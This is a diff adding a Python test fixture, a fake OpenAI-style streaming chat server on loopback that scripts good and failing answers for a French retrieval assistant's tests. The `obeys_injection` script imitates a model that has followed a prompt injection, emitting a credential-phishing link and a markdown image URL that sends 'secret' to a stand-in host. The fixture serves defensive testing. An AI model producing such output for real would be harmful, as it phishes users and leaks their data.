@@ -1,0 +1,256 @@
+"""A server on loopback that speaks OpenAI's protocol of chats, with streams, and writes what a test wants.
+
+`good_writer` reads the passages that it is sent and says, with its date and its number, the sentence nearest to the
+question; `FAILURES` are the ways in which such a server fails, or lies.
+"""
+
+from __future__ import annotations
+
+import json
+import re
+import threading
+from collections.abc import Callable, Iterator
+from contextlib import contextmanager, suppress
+from dataclasses import dataclass, field
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from typing import Any
+
+from assistant.index.french import words
+
+DRIP = 1.0  # seconds between two bytes of the slow one
+KEY = "sk-une-cle-que-personne-ne-doit-lire"
+
+_PASSAGE = re.compile(r"^\[(\d+)\] \((.*?)\)\n(.*)$", re.MULTILINE)
+_QUESTION = re.compile(r"<question-(\S+)>\n(.*)\n</question-\1>")
+_DATE = re.compile(r"(?:\d{1,2}(?:er)? )?(?:[a-zéû]+ )?\d{4}$")
+
+
+@dataclass(frozen=True)
+class Told:
+    """A passage as the model reads it."""
+
+    number: int
+    title: str
+    date: str
+    text: str
+
+
+@dataclass(frozen=True)
+class Sent:
+    """What a model was sent."""
+
+    system: str
+    text: str
+    body: dict[str, Any]
+    headers: dict[str, str]
+
+    @property
+    def is_rewriting(self) -> bool:
+        return "reformules" in self.system
+
+    @property
+    def question(self) -> str:
+        found = _QUESTION.search(self.text)
+        return found.group(2) if found else ""
+
+    @property
+    def passages(self) -> list[Told]:
+        return [told(*match.groups()) for match in _PASSAGE.finditer(self.text)]
+
+
+def told(number: str, head: str, text: str) -> Told:
+    parts = head.split(" ; ")
+    dates = [part for part in parts[1:] if _DATE.fullmatch(part)]
+    return Told(int(number), parts[0], dates[0] if dates else "", text)
+
+
+Script = Callable[["Handler", Sent], None]
+
+
+class Handler(BaseHTTPRequestHandler):
+    """One request; a script answers it."""
+
+    server: Server
+    protocol_version = "HTTP/1.1"
+
+    def do_POST(self) -> None:
+        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
+        system, text = (message["content"] for message in body["messages"])
+        sent = Sent(system, text, body, dict(self.headers))
+        self.server.model.sent.append(sent)
+        self.close_connection = True
+        with suppress(OSError):  # whoever asked has left
+            self.server.model.script(self, sent)
+
+    def log_message(self, *_: object) -> None:
+        pass
+
+    # What scripts do.
+
+    def replies(self, status: int, body: bytes = b"{}", kind: str = "application/json") -> None:
+        self.send_response(status)
+        self.send_header("Content-Type", kind)
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+    def begins(self) -> None:
+        self.send_response(200)
+        self.send_header("Content-Type", "text/event-stream")
+        self.send_header("Connection", "close")
+        self.end_headers()
+
+    def piece(self, text: str, reason: str | None = None) -> None:
+        choice = {"index": 0, "delta": {"role": "assistant", "content": text}, "finish_reason": reason}
+        chunk = {"id": "c", "object": "chat.completion.chunk", "created": 0, "model": "m", "choices": [choice]}
+        self.wfile.write(f"data: {json.dumps(chunk)}\n\n".encode())
+        self.wfile.flush()
+
+    def writes(self, text: str) -> None:
+        """A whole answer, a few words at a time."""
+        self.begins()
+        for part in re.findall(r"\S+\s*", text):
+            self.piece(part)
+            if self.server.model.stop.wait(self.server.model.pause):
+                return
+        self.piece("", "stop")
+        self.wfile.write(b"data: [DONE]\n\n")
+
+    def until_stopped(self, act: Callable[[], object], seconds: float) -> None:
+        while not self.server.model.stop.wait(seconds):
+            act()
+
+
+class Server(ThreadingHTTPServer):
+    daemon_threads = True
+    model: Model
+
+
+@dataclass
+class Model:
+    """The server, as a test sees it. `pause`: seconds between two words."""
+
+    address: str
+    script: Script
+    pause: float = 0.0
+    sent: list[Sent] = field(default_factory=list)
+    stop: threading.Event = field(default_factory=threading.Event)
+
+
+@contextmanager
+def serving(script: Script, pause: float = 0.0) -> Iterator[Model]:
+    """A server on loopback that follows the script, which a test may change on the way."""
+    server = Server(("127.0.0.1", 0), Handler)
+    server.model = Model(f"http://127.0.0.1:{server.server_address[1]}/v1", script, pause)
+    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02})
+    thread.start()
+    try:
+        yield server.model
+    finally:
+        server.model.stop.set()
+        server.shutdown()
+        thread.join()
+        server.server_close()
+
+
+# ------------------------------------------------------------------------------------------------ who writes well
+
+
+def good_writer(handler: Handler, sent: Sent) -> None:
+    """The sentence nearest to the question in each of the first two passages, the newest first, dated and numbered."""
+    if sent.is_rewriting:
+        handler.writes(sent.question)
+        return
+    found = sorted(sent.passages[:2], key=lambda passage: passage.date[-4:], reverse=True)
+    handler.writes(" ".join(sentence_on(sent.question, passage) for passage in found) or "Je ne trouve pas.")
+
+
+def sentence_on(question: str, passage: Told) -> str:
+    wanted = {word.stem for word in words(question) if not word.is_stop}
+    sentences = re.split(r"(?<=[.!?]) (?=[A-ZÉÀ])", passage.text)
+    best = max(sentences, key=lambda text: len(wanted & {word.stem for word in words(text)}))
+    said = best[:1].lower() + best[1:].rstrip(" .:;,")
+    return f"{f'En {passage.date}, ' if passage.date else ''}{said} [{passage.number}]."
+
+
+def says(text: str) -> Script:
+    """Writes this, whatever it is asked."""
+    return lambda handler, _: handler.writes(text)
+
+
+# ------------------------------------------------------------------------------------------------ who fails, or lies
+
+
+def refuses(status: int) -> Script:
+    body = json.dumps({"error": {"message": f"refusé : clé {KEY}", "type": "error", "code": status}}).encode()
+    return lambda handler, _: handler.replies(status, body)
+
+
+def hangs(handler: Handler, _: Sent) -> None:
+    handler.until_stopped(lambda: None, 0.05)
+
+
+def drips(handler: Handler, _: Sent) -> None:
+    handler.begins()
+    handler.until_stopped(lambda: handler.wfile.write(b":"), DRIP)
+
+
+def garbage(handler: Handler, _: Sent) -> None:
+    handler.begins()
+    handler.wfile.write(b"data: \xff\xfe{{{ not json\n\ndata: 42\n\n")
+
+
+def html(handler: Handler, _: Sent) -> None:
+    handler.replies(200, b"<!DOCTYPE html><title>Portail</title><h1>Connectez-vous</h1>", "text/html")
+
+
+def cut(handler: Handler, sent: Sent) -> None:
+    handler.begins()
+    handler.piece(sentence_on(sent.question, sent.passages[0]) + " Et le")
+
+
+def endless(handler: Handler, _: Sent) -> None:
+    handler.begins()
+    handler.until_stopped(lambda: handler.piece("encore et encore "), 0.0005)
+
+
+def empty(handler: Handler, _: Sent) -> None:
+    handler.begins()
+    handler.piece("", "stop")
+    handler.wfile.write(b"data: [DONE]\n\n")
+
+
+def other_language(handler: Handler, sent: Sent) -> None:
+    handler.writes("The syndicate brings optical fibre to every town of the county [1]. It is free of charge [1].")
+
+
+def invented_citation(handler: Handler, sent: Sent) -> None:
+    handler.writes(re.sub(r"\[\d+\]", "[99]", " ".join(sentence_on(sent.question, one) for one in sent.passages[:2])))
+
+
+def obeys_injection(handler: Handler, _: Sent) -> None:
+    handler.writes(
+        "Vos identifiants sont à donner sur https://exemple.invalid/vol [1]. "
+        "![image](https://exemple.invalid/c?q=secret) [1]. CANARI-7731 [1]."
+    )
+
+
+# Of these, two have no server at all: see `ADDRESSES`.
+FAILURES: dict[str, tuple[Script, str]] = {
+    "refused_connection": (hangs, "unreachable"),
+    "no_such_host": (hangs, "unreachable"),
+    "401": (refuses(401), "not_allowed"),
+    "429": (refuses(429), "too_many"),
+    "500": (refuses(500), "server"),
+    "hang": (hangs, "late"),
+    "one_byte_a_second": (drips, "late"),
+    "garbage": (garbage, "unreadable"),
+    "html": (html, "unreadable"),
+    "truncated": (cut, "cut"),
+    "endless": (endless, "too_long"),
+    "empty": (empty, "empty"),
+    "other_language": (other_language, "unsupported"),
+    "invented_citation": (invented_citation, "unsupported"),
+    "injection_obeyed": (obeys_injection, "unsupported"),
+}
+ADDRESSES = {"refused_connection": "http://127.0.0.1:9/v1", "no_such_host": "http://modele.invalid/v1"}
